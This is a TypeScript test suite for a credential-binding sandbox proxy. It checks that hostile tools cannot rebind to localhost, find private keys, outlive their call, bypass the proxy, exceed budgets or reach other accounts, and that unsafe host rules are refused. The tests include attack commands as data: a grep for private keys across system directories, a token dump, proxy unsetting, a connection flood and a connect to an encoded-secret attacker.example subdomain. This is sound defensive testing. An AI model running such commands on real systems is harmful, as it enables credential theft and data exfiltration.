import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, afterEach, before, suite, test } from "node:test";
import {
  type BoundaryRange,
  boundTool,
  CANARIES,
  networkRule,
  openBoundaryRange,
} from "../helpers/boundary-range.ts";
import { UPSTREAM_HOST } from "../helpers/hostile-upstream.ts";
import { openLab } from "../helpers/lab.ts";
import { aTool } from "../helpers/manifests.ts";

const BEARER = { header: "Authorization", format: "Bearer {{secret}}" };

suite("a hostile tool that wants more of its credential than the call was granted", () => {
  let it: BoundaryRange;
  let from: number;
  before(async () => {
    it = await openBoundaryRange((upstream) => ({
      tools: {
        thrifty: boundTool(upstream, "plain", {
          ...BEARER,
          budget: { requests: 4, connections: 2, up: "10k", down: "1M", time: "3s" },
        }),
        alone: {},
        placed: {
          sandbox: { network: [networkRule(upstream)] },
          credentials: [
            {
              name: "plain",
              secretRef: { name: "plain", key: "token" },
              placeholderEnv: "API_TOKEN",
              http: {
                hosts: [`${UPSTREAM_HOST}:${upstream.port}`],
                methods: ["GET"],
                paths: ["/bound/ok"],
                ...BEARER,
              },
            },
          ],
        },
        rebound: { sandbox: { network: [{ host: "localhost", port: upstream.port }] } },
        unread: {
          sandbox: { network: [{ ...networkRule(upstream), ca: undefined, opaque: true }] },
        },
      },
    }));
  });
  afterEach(async () => {
    await it.sweep();
  });
  after(async () => {
    await it[Symbol.asyncDispose]();
  });

  const begin = () => (from = it.upstream.received.length);
  const sent = () => it.upstream.received.slice(from);
  const withCredential = () =>
    sent().filter((request) => JSON.stringify(request).includes(CANARIES.plain));
  const request = (target: string, ...fields: string[]) =>
    `GET ${target} HTTP/1.1\r\nHost: ${it.authority}\r\n${fields.map((field) => `${field}\r\n`).join("")}\r\n`;
  const inTls = (send: string | string[], more: object = {}) => ({
    connect: it.authority,
    sni: UPSTREAM_HOST,
    send,
    ...more,
  });

  test("59: a name that leads to this machine is not dialled unless its rule says so", async () => {
    begin();
    const { said, attack } = await it.speak(
      [
        {
          connect: `localhost:${it.upstream.port}`,
          sni: "localhost",
          send: `GET / HTTP/1.1\r\nHost: localhost:${it.upstream.port}\r\n\r\n`,
          waitMs: 1500,
        },
      ],
      "rebound",
    );

    assert.match(said[0] ?? "", /^HTTP\/1\.1 403 [^]*address_refused/);
    assert.equal(attack.requests[0]?.verdict, "refused_address");
    assert.deepEqual(sent(), []);
  });

  test("70: there is no certificate for another name, and no key of an authority to find", async () => {
    const { said } = await it.speak([
      { connect: "bank.example:443", sni: "bank.example", send: "x" },
      inTls("x", { sni: "bank.example" }),
    ]);
    const found = await it.range.attack(
      "bound",
      "grep -rls 'PRIVATE KEY' /etc /opt /run /tmp /var 2>/dev/null | grep -v '^/opt/tool/'; grep -c CERTIFICATE /etc/ssl/certs/agentkube-run-ca.pem",
    );

    assert.match(said[0] ?? "", /^HTTP\/1\.1 403 /);
    assert.ok(["no TLS", ""].includes(said[1] ?? "x"), said[1]);
    assert.equal(found.stdout, "2\n");
  });

  test("71: a child that outlives its call finds no proxy, and a placeholder is worth nothing", async () => {
    begin();
    const exchange = JSON.stringify([inTls(request("/bound/ok"))]).replaceAll("'", "");
    const late = await it.range.attack(
      "bound",
      `(setsid sh -c "sleep 1; /opt/tool/node /opt/tool/client.ts '${exchange.replaceAll('"', '\\"').replaceAll("\\r", "\\\\r").replaceAll("\\n", "\\\\n")}'" >/dev/null 2>&1 &); echo started`,
    );
    assert.equal(late.stdout, "started\n");
    const other = await it.range.attack(
      "alone",
      'exec /opt/tool/node -e \'require("net").connect(3128,"127.0.0.1").on("error",(e)=>console.log(e.code)).on("connect",()=>console.log("open"))\'',
    );
    assert.equal(other.stdout, "ECONNREFUSED\n");
    const placed = await it.range.attack("placed", 'printf %s "$API_TOKEN"');
    assert.match(placed.stdout, /^agentkube-placeholder-plain$/);
    await it.speak(
      [
        inTls(request("/elsewhere", `Authorization: Bearer ${placed.stdout}`, "Connection: close")),
        inTls(request("/bound/ok", `Authorization: Bearer ${placed.stdout}`, "Connection: close")),
      ],
      "placed",
    );

    await new Promise((resolve) => setTimeout(resolve, 1200));
    assert.equal(sent().length, 2, "the late child sent nothing");
    assert.equal(withCredential().length, 1);
    assert.ok(!JSON.stringify(sent()).includes("placeholder"));
  });

  test("74: requests, connections, bytes and time of a budget are what there is", async () => {
    begin();
    const many = await it.speak(
      Array.from({ length: 6 }, () => inTls(request("/bound/ok", "Connection: close"))),
      "thrifty",
    );
    assert.deepEqual(
      many.said.map((text) => text.slice(9, 12)),
      ["200", "200", "200", "200", "429", "429"],
    );
    assert.match(many.said[5] ?? "", /budget_spent/);
    assert.equal(withCredential().length, 4);

    const parallel = await it.speak(
      [inTls(request("/bound/drip"), { times: 3, waitMs: 500 })],
      "thrifty",
    );
    assert.equal(parallel.said.filter((text) => text.startsWith("HTTP/1.1 429")).length, 1);

    const up = "x".repeat(8000);
    const post = `POST /bound/ok HTTP/1.1\r\nHost: ${it.authority}\r\nContent-Length: 8000\r\nConnection: close\r\n\r\n${up}`;
    const uploads = await it.speak([inTls(post), inTls(post)], "thrifty");
    assert.match(uploads.said[0] ?? "", /^HTTP\/1\.1 200 /);
    assert.match(uploads.said[1] ?? "", /^HTTP\/1\.1 429 |^$/);

    const endless = await it.speak([inTls(request("/bound/endless"), { waitMs: 2000 })], "thrifty");
    const [, bytes = "0"] = /(\d+) bytes$/.exec(endless.said[0] ?? "") ?? [];
    assert.ok(Number(bytes) > 100_000 && Number(bytes) < 1_100_000, `${bytes} bytes`);
    assert.equal(endless.attack.requests[0]?.verdict, "refused_rule");

    const slow = await it.speak([inTls(request("/bound/mute"), { waitMs: 8000 })], "thrifty");
    assert.match(slow.said[0] ?? "", /^HTTP\/1\.1 429 [^]*budget_spent/);
    assert.ok((slow.attack.requests[0]?.durationMs ?? 9e9) < 8000);
  });

  test("74: a hundred connections, a head that never ends, and a thousand requests hurt only the call", async () => {
    const started = performance.now();
    const flood = it.range.attack(
      "bound",
      `exec /opt/tool/node /opt/tool/client.ts '${JSON.stringify([{ send: "GET http://", waitMs: 3000, times: 100 }])}'`,
    );
    const answers = await it.range.call("range-probe", "echo quick", AbortSignal.timeout(5000));
    assert.equal(answers.stdout, "quick\n");
    await flood;
    const reached = it.upstream.received.length;
    const pipelined = request("/elsewhere").repeat(300);
    const { said, attack } = await it.speak([inTls(pipelined, { times: 5, waitMs: 5000 })]);

    assert.equal(it.upstream.received.length - reached, 1000);
    assert.equal(attack.record.requests, 1001);
    assert.ok(said.some((text) => text.includes("429") || text.includes(" bytes")));
    assert.ok(performance.now() - started < 60_000);
  });

  test("77, 79: without the proxy there is nothing: no address, no name server, no metadata service", async () => {
    const { stdout } = await it.range.attack(
      "bound",
      "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; export NO_PROXY='*'; exec /opt/tool/node /opt/tool/client.ts around",
    );

    const found = JSON.parse(stdout) as Record<string, string>;
    assert.equal(Object.keys(found).length, 6);
    for (const [way, what] of Object.entries(found))
      assert.match(
        what,
        /ENETUNREACH|ECONNREFUSED|EAI_AGAIN|ENOTFOUND|EACCES|EADDRNOTAVAIL|EPERM|EREFUSED/,
        way,
      );
    const { said } = await it.speak([{ connect: "c2VjcmV0.attacker.example:443", send: "x" }]);
    assert.match(said[0] ?? "", /^HTTP\/1\.1 403 /);
  });

  test("78: the same API, another's account: the credential is for the named one", async () => {
    begin();
    for (const target of [
      "/repos/acme/site",
      "/repos/evil/site",
      "/repos/acme/site/more",
      "/gists",
    ])
      await it.get(target);

    assert.deepEqual(
      withCredential().map(({ target }) => target),
      ["/repos/acme/site"],
    );
  });

  test("opaque: bytes pass unread and counted, and no credential is put in", async () => {
    begin();
    const { said, attack } = await it.speak(
      [inTls(request("/bound/headers", "Connection: close"))],
      "unread",
    );

    assert.match(said[0] ?? "", /^HTTP\/1\.1 200 /);
    assert.deepEqual(withCredential(), []);
    const [record] = attack.requests;
    assert.deepEqual(
      [record?.method, record?.verdict, record?.credential],
      ["CONNECT", "allowed_without_credential", null],
    );
    assert.ok((record?.bytesDown ?? 0) > 100);
  });

  test("95: zone A has no directory of the runner's, and no way to write its configuration, programs or store", async () => {
    const info = await it.range.lab.waitForRun();
    const zone = it.range.lab.processes().filter(({ command }) => command === "sleep 1200");

    assert.ok(zone.length > 0, info.run);
    for (const { pid } of zone) {
      const mounts = readFileSync(`/proc/${pid}/mountinfo`, "utf8").split("\n");
      const writable = mounts.filter(
        (line) => / rw,/.test(line.split(" - ")[0] ?? "") && line.includes(it.range.lab.root),
      );
      const sources = writable.map((line) => line.split(" ")[3] ?? "");
      for (const source of sources)
        assert.ok(/workspace|report\.sock/.test(source), `${source} is writable in zone A`);
      assert.ok(!mounts.some((line) => line.includes("run.sock")));
    }
  });
});

suite("a careless author's rules", () => {
  const refused = async (tool: object): Promise<string> => {
    await using lab = openLab();
    const end = await lab.agentkube(["tool", "check", lab.write("tool.yaml", tool), "--json"])
      .ended;
    assert.ok(end.code === 1 || end.code === 2, `code ${end.code}: ${end.text}`);
    return end.text;
  };
  const ruled = (hosts: string[], more: object = {}, network?: object[]) =>
    aTool("careless", {
      package: undefined,
      operations: [{ name: "run", command: ["/bin/true"] }],
      sandbox: { network: network ?? [{ host: "api.example.com" }] },
      credentials: [
        {
          name: "github",
          secretRef: { name: "a", key: "b" },
          http: { hosts, methods: ["GET"], paths: ["/"], header: "Authorization", ...more },
        },
      ],
    });

  for (const host of [
    "*",
    "*.com",
    "*.example.com",
    "127.0.0.1",
    "127.1",
    "0x7f000001",
    "2130706433",
    "[::1]",
    "api.example.com.",
    "API.example.com",
    "x@api.example.com",
    "https://api.example.com",
    "api.example.com:0",
    "api.example.com:99999",
  ])
    test(`94: "${host}" as the host of a rule is refused at load, and the rule named`, async () => {
      assert.match(await refused(ruled([host])), /credentials(?:\[0\]|\.0)?[^]*hosts|\\"github\\"/);
    });

  test("94: such hosts in the network are refused too", async () => {
    for (const host of ["*", "*.com", "10.0.0.1", "0x7f.1"])
      assert.match(await refused(ruled(["api.example.com"], {}, [{ host }])), /network/);
  });

  test("73: two rules that can match one request are refused, both named", async () => {
    const tool = ruled(["api.example.com"]) as { spec: { credentials: object[] } };
    tool.spec.credentials.push({ ...tool.spec.credentials[0], name: "second" });

    assert.match(await refused(tool), /second[^]*github[^]*can match the same request/);
  });

  test("75: forms that are not there yet are refused by name", async () => {
    for (const form of ["sigv4", "hmac", "oauth", "mtls"])
      assert.match(
        await refused(ruled(["api.example.com"], { [form]: {} })),
        new RegExp(`http\\.${form} is reserved`),
      );
  });
});
